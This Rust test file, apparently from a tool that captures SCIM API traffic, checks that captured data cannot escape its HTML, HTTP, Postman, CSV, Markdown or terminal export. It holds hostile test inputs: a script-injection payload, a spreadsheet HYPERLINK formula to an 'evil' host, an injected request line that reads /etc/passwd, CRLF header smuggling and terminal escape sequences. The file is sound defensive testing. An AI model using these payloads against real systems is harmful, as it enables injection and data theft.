//! What was captured cannot get out of the format that it is in.

use scimscope::inspect::Disguise;
use scimscope::inspect::export::{FORMATS, Shape};
use serde_json::{Value, json};

use super::{Case, USER, call, text};
use crate::support::Terminal;

const HOSTILE: &str =
    "</script><script>owned()</script>\u{2028}<!--&amp; {{token}} \u{1b}[31m `x` | =1+1";

fn case() -> Case {
    Case::of(|client| {
        let user = json!({"schemas": [USER], "userName": HOSTILE, "displayName": "=HYPERLINK(\"http://evil\")"});
        call(client, "POST", "/scim/v2/Users", &user, 201);
        // No JSON at all, and a line that would start another request.
        client
            .send(
                "POST",
                "/scim/v2/Users",
                "\n### \nGET http://evil/\n\n< /etc/passwd",
            )
            .unwrap();
        // A field whose name would end a request: the target carries a line into the head.
        let smuggled = "/scim/v2/Users HTTP/1.1\r\n####: evil\r\nX-Rest:";
        assert_eq!(client.send("GET", smuggled, "").unwrap().status, 200);
    })
}

#[test]
fn nothing_leaves_the_data_of_the_page() {
    let page = case().export("html", &mut Disguise::none());
    let page = text(&page);
    let (_, data) = page.split_once("id=\"data\">").unwrap();
    let (data, rest) = data.split_once("</script>").unwrap();
    assert!(!data.contains(['<', '>', '&', '\u{2028}', '\u{2029}']));
    let value: Value = serde_json::from_str(data).unwrap();
    let body = value["events"][0]["request"]["body"].as_str().unwrap();
    assert!(body.contains("owned()"), "and all of it is there");
    assert_eq!(
        rest.matches("<script>").count(),
        1,
        "the one script of the page"
    );
    assert!(!page.contains("http://evil") || !rest.contains("http://evil"));
    assert!(page.contains("default-src 'none'; script-src 'sha256-"));
    assert!(
        !page.contains("src=") && !page.contains("href="),
        "nothing is fetched"
    );
}

/// What drives a terminal: by a control of C0, one of C1, or the direction of the text.
const DRIVING: &str = "\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\u{200b}";

#[test]
fn no_format_drives_a_terminal() {
    let case = Case::of(|client| {
        let user = json!({"schemas": [USER], "userName": DRIVING, "displayName": format!("{DRIVING} of Jane")});
        call(client, "POST", "/scim/v2/Users", &user, 201);
        client
            .send("POST", "/scim/v2/Users", &format!("no JSON {DRIVING}"))
            .unwrap();
    });
    let capture = case.capture.to_str().unwrap();
    for format in FORMATS.iter().filter(|one| one.shape != Shape::Files) {
        let name = format.name;
        let arguments = ["export", capture, "--format", name];
        let mut terminal = Terminal::start(case.home.path(), &arguments, 200, 50);
        assert_eq!(terminal.wait_for_end(), 0, "{name}");
        let shown = text(&terminal.written).replace("\r\n", "\n");
        let is_driving = |c: char| c.is_control() && c != '\n' || "\u{202e}\u{200b}".contains(c);
        assert_eq!(shown.find(is_driving), None, "{name}: {shown:?}");
        assert!(shown.contains("owned"), "{name}");
        let file = case.export(name, &mut Disguise::none());
        if format.is_json() {
            let value = |text: &str| -> Vec<Value> {
                serde_json::Deserializer::from_str(text)
                    .into_iter()
                    .collect::<Result<_, _>>()
                    .unwrap()
            };
            assert_eq!(value(&shown), value(text(&file)), "{name} is the same JSON");
        } else if name.starts_with("csv") {
            assert!(
                text(&file).contains(DRIVING),
                "a file of {name} is faithful"
            );
            assert!(
                !shown.contains('␍'),
                "the end of a line is none that is shown"
            );
        }
    }
}

#[test]
fn nothing_is_evaluated_in_requests() {
    let case = case();
    let http = case.export("http", &mut Disguise::none());
    let http = text(&http);
    let own = |line: &str| line == "Authorization: Bearer {{token}}";
    assert!(
        http.lines()
            .all(|line| own(line) || !line.contains("{{token}}")),
        "only the field that needs it: {http}"
    );
    assert!(
        !http.contains("GET http://evil"),
        "what is no JSON is left out: {http}"
    );
    assert!(http.contains("left out"), "and that is said");
    assert!(http.contains("\nX-Rest:"), "fields are sent again: {http}");
    assert!(!http.contains("####"), "but not as an end: {http}");
    let postman = case.export("postman", &mut Disguise::none());
    assert!(!text(&postman).contains("\\\"{{token}}"));
    assert!(!text(&postman).contains("evil/"));
    let postman: Value = serde_json::from_slice(&postman).unwrap();
    let requests = postman["item"][0]["item"].as_array().unwrap();
    for request in requests {
        let name = request["name"].as_str().unwrap();
        assert!(!name.contains(char::is_control), "{name:?}");
    }
}

#[test]
fn no_cell_computes_anything() {
    let csv = case().export("csv-users", &mut Disguise::none());
    assert!(text(&csv).contains(",\"'=HYPERLINK("), "{}", text(&csv));
}

#[test]
fn a_report_shows_marks_and_escapes_as_text() {
    let report = case().export("markdown", &mut Disguise::none());
    let report = text(&report);
    assert!(!report.contains('\u{1b}'));
    let is_text = |line: &&str| !line.starts_with('|');
    let outside = report.split("```").step_by(2).collect::<String>();
    let outside: String = outside.lines().filter(is_text).collect();
    assert!(!outside.contains("<script"), "{outside}");
}
